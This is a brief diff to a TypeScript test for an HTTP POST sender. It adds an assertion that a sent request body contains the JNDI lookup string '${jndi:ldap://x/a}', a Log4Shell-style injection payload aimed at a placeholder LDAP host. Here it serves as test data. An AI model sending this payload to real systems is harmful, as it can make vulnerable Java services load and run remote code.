@@ -60,5 +60,9 @@ export const httpPostV2: TestedType = {
     expectClosed([sent]) {
       expect(bodyOf(sent)).toMatchObject({ status: { name: 'closed' } });
     },
+    expectData([sent], name) {
+      expect(bodyOf(sent)['name']).toBe(Buffer.from(name).toString());
+      expect(sent?.body).toContain('${jndi:ldap://x/a}');
+    },
   },
 };
